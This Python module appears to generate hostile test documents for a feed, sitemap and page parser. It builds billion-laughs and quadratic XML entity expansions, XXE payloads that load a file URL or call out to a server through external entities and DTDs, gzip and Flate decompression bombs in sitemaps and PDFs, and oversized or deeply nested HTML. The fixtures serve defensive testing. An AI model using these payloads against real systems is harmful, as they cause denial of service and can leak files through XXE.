"""Documents that mean harm, made up: bombs, entities that multiply or reach out, and markup beyond all measure."""

from __future__ import annotations

import gzip
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final, Literal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

Kind = Literal["page", "feed", "sitemap", "outlines"]

SENTENCE: Final = "The committee approved the bill on Tuesday after two hours of debate about its costs. "
_LEVELS: Final = 10
_MEGABYTE: Final = 1_000_000
_GZIP: Final = zlib.MAX_WBITS + 16


@dataclass(frozen=True, slots=True)
class HostileDocument:
    """A document, and what it is given out to be."""

    kind: Kind
    content: bytes


def hostile_documents(secret: str, address: str) -> Mapping[str, Callable[[], HostileDocument]]:
    """What makes each document, by name.

    ``secret`` is the URL of a file, ``address`` that of a server: both are asked for by external entities.
    """
    makers: dict[str, Callable[[], HostileDocument]] = {
        "nested_tags": lambda: _page(b"<div>" * 50_000 + b"deep"),
        "linked_paragraphs": lambda: _page(b'<p><a href="/x">link and words</a></p>' * 40_000),
        "line_breaks": lambda: _page(b"one" + b"<br>" * 500_000 + b"two"),
        "page_of_15_mb": lambda: _page((b"<p>" + SENTENCE.encode() * 40 + b"</p>") * 4_370),
        "attributes": lambda: _page(b"<p " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b">x</p>"),
        "items_50000": lambda: HostileDocument("feed", feed(50_000)),
        "nested_feed": lambda: HostileDocument("feed", feed(1, b"&lt;b&gt;" * 200_000)),
        "pdf_spaces": lambda: _pdf(_packed(b" ", 100), b"/FlateDecode"),
        "pdf_stacked": lambda: _pdf(zlib.compress(_packed(b"0", 100), 9), b"[/FlateDecode /FlateDecode]"),
        "pdf_operators": lambda: _pdf(
            zlib.compress(b"BT /F1 12 Tf (x) Tj ET " * 600_000, 9), b"/FlateDecode"
        ),
        "sitemap_bomb": lambda: HostileDocument("sitemap", _packed(b" ", 200, sitemap(b""), _GZIP)),
        "sitemap_bomb_stacked": lambda: HostileDocument(
            "sitemap", gzip.compress(_packed(b" ", 200, sitemap(b""), _GZIP), 9)
        ),
    }
    attacks = {
        "laughs": (_laughs(), b"&a9;"),
        "blow_up": (b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 100_000 + b'">]>', b"&a;" * 20_000),
        "file_entity": (f'<!DOCTYPE r [<!ENTITY a SYSTEM "{secret}">]>'.encode(), b"&a;"),
        "http_entity": (f'<!DOCTYPE r [<!ENTITY a SYSTEM "{address}/entity">]>'.encode(), b"&a;"),
        "http_dtd": (f'<!DOCTYPE r SYSTEM "{address}/dtd">'.encode(), b""),
        "parameter": (
            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{address}/parameter"> %p;]>'.encode(),
            b"&a;",
        ),
    }
    return makers | {
        f"{name}_in_{kind}": _attack(kind, doctype, words)
        for name, (doctype, words) in attacks.items()
        for kind in ("feed", "sitemap", "outlines")
    }


def feed(items: int, words: bytes = b"", doctype: bytes = b"") -> bytes:
    """An RSS feed of so many items, each with ``words`` in it."""
    return b"".join(_feed_parts(items, words, doctype))


def sitemap(words: bytes, doctype: bytes = b"") -> bytes:
    """A sitemap of one page, with ``words`` in its address."""
    return (
        b'<?xml version="1.0"?>' + doctype + b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<url><loc>https://paper.example/" + words + b"</loc></url></urlset>"
    )


def outlines(words: bytes, doctype: bytes = b"") -> bytes:
    """A list of one feed, with ``words`` in its title."""
    return (
        b'<?xml version="1.0"?>'
        + doctype
        + b'<opml version="2.0"><body><outline text="A paper '
        + words
        + b'" '
        b'type="rss" xmlUrl="https://paper.example/feed"/></body></opml>'
    )


def article_page(number: int) -> bytes:
    """An ordinary page, no two alike: navigation, an article of some paragraphs, a footer."""
    links = "".join(f'<li><a href="/topic/{item}">Topic {item}</a></li>' for item in range(20 + number % 30))
    paragraphs = "".join(
        f"<p>{SENTENCE} Paragraph {place} of report {number} gives {number * place} reasons. {SENTENCE}</p>"
        for place in range(5 + number % 40)
    )
    return (
        f"<!doctype html><html><head><title>Report {number} | The Paper</title>"
        f'<meta name="author" content="Ada Byron"><meta property="article:published_time" '
        f'content="2026-04-{number % 28 + 1:02d}T10:00:00Z"></head><body><nav><ul>{links}</ul></nav>'
        f"<main><article><h1>Report {number}</h1>{paragraphs}</article></main>"
        f"<footer>Copyright</footer></body></html>"
    ).encode()


def _feed_parts(items: int, words: bytes, doctype: bytes) -> Iterator[bytes]:
    yield b'<?xml version="1.0"?>' + doctype + b'<rss version="2.0"><channel><title>A paper</title>'
    for number in range(items):
        yield (
            b"<item><title>Story %d</title><link>https://paper.example/%d</link><guid>g%d</guid>"
            b"<pubDate>Tue, 07 Apr 2026 10:00:00 GMT</pubDate><description>&lt;p&gt;%s %s %d&lt;/p&gt;</description>"
            b"</item>" % (number, number, number, SENTENCE.encode() * 3, words, number)
        )
    yield b"</channel></rss>"


def _attack(kind: Kind, doctype: bytes, words: bytes) -> Callable[[], HostileDocument]:
    made = {
        "feed": lambda: feed(1, words, doctype),
        "sitemap": lambda: sitemap(words, doctype),
        "outlines": lambda: outlines(words, doctype),
    }
    return lambda: HostileDocument(kind, made[kind]())


def _laughs() -> bytes:
    """Entities of ten of the one before: ten to the tenth characters from a thousand."""
    entities = (b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, _LEVELS))
    return b'<!DOCTYPE r [<!ENTITY a0 "laughs and laughs">' + b"".join(entities) + b"]>"


def _packed(filling: bytes, megabytes: int, start: bytes = b"", form: int = zlib.MAX_WBITS) -> bytes:
    """Many times the same, compressed, without ever holding it."""
    packer = zlib.compressobj(9, wbits=form)
    block = filling * _MEGABYTE
    return (
        packer.compress(start) + b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()
    )


def _page(body: bytes) -> HostileDocument:
    return HostileDocument(
        "page", b"<html><head><title>A page</title></head><body>" + body + b"</body></html>"
    )


def _pdf(stream: bytes, filters: bytes) -> HostileDocument:
    """A PDF of one page with this content (ISO 32000-1, section 7.5)."""
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources 6 0 R >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(stream), filters, stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Font << /F1 5 0 R >> >>",
    )
    body, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer << /Size 7 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % start
    return HostileDocument("page", bytes(body))
